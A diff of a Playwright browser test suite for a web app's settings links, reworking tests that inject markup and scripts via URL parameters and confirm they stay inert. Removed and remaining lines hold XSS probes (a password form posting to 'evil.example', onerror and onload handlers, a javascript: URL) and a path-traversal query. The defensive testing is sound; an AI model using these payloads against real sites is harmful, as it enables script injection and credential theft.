@@ -10,12 +10,8 @@ from playwright.sync_api import BrowserContext, expect
 
 from lora_core.ui.settings import Settings
 from tests.browser.conftest import Log
+from tests.ui.test_links import MARKUP, SAID
 
-MARKUP = (
-    '<form id=evil action="http://evil.example/"><input name=password><button>Go</button></form>'
-    "<img class=evil src='http://evil.example/x.png' onerror='window.evil=1'>"
-    '"><svg class=evil onload="window.evil=1"></svg>'
-)
 PARAMETERS = [
     *Settings.names(),
     "lock",
@@ -28,7 +24,6 @@ PARAMETERS = [
     "__lang",
     "tour",
 ]
-SAID = {"task": "table|task", "base": "base", "targets": "layers"}  # by their labels
 SCRIPT = "javascript:window.evil=1//'\"`${window.evil=1}"  # in an address, a quote, a template
 # Whether anything on the page runs, opens or loads what the link brought.
 FOREIGN = """() => [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes])
@@ -37,16 +32,22 @@ FOREIGN = """() => [...document.querySelectorAll("*")].flatMap((e) => [...e.attr
   .map((a) => a.name + "=" + a.value)"""
 
 
-@pytest.mark.parametrize("name", PARAMETERS)
+# The server's answer to each setting: tests/ui/test_links.py. Here are its kinds, and what the
+# browser reads itself.
+@pytest.mark.parametrize(
+    "names",
+    [["task"], ["rank"], ["targets"], PARAMETERS[len(Settings.names()) :], ["deep_link", "__lang"]],
+    ids=" ".join,
+)
 def test_markup_in_a_link_stays_text(
-    context: BrowserContext, server: str, log: Log, name: str
+    context: BrowserContext, server: str, log: Log, names: list[str]
 ) -> None:
     page = context.new_page()
     log.watch(page)
-    page.goto(f"{server}/?{name}={quote(MARKUP)}")
+    page.goto(f"{server}/?" + "&".join(f"{name}={quote(MARKUP)}" for name in names))
     page.wait_for_selector("#start")
     page.wait_for_function("localStorage.getItem('lora-lab-visitor') !== null")
-    if name in Settings.names():
+    for name in set(names).intersection(Settings.names()):
         said = re.compile(SAID.get(name, name), re.IGNORECASE)
         expect(page.locator(".toast-body").first).to_contain_text(said)
     page.wait_for_load_state("networkidle")
@@ -72,27 +73,11 @@ def test_a_script_in_every_part_of_a_link_never_runs_and_the_page_works(
     assert all(url.startswith((server, "data:", "blob:")) for url in log.requests)
 
 
-@pytest.mark.parametrize(
-    ("query", "said"),
-    [
-        ("base=gpt9", "gpt9"),
-        ("base=..%2F..%2Fetc", "etc"),
-        ("targets=nowhere", "nowhere"),
-        ("targets=query,%2A", "*"),
-        ("scaling=sideways", "scaling"),
-        ("head=off", "head"),
-        ("method=magic", "method"),
-        ("rank=many", "rank"),
-        ("steps=1e9", "1000000000"),
-        ("seed=-5", "seed"),
-        ("alpha=nan", "alpha"),
-    ],
-)
 def test_what_a_link_asks_for_and_is_not_here_is_refused_in_words(
-    context: BrowserContext, server: str, query: str, said: str
+    context: BrowserContext, server: str
 ) -> None:
     page = context.new_page()
-    page.goto(f"{server}/?{query}")
+    page.goto(f"{server}/?base=..%2F..%2Fetc")
     toast = page.locator(".toast-body").first
-    expect(toast).to_contain_text(said)
+    expect(toast).to_contain_text("etc")
     expect(toast).to_contain_text("defaults are used")
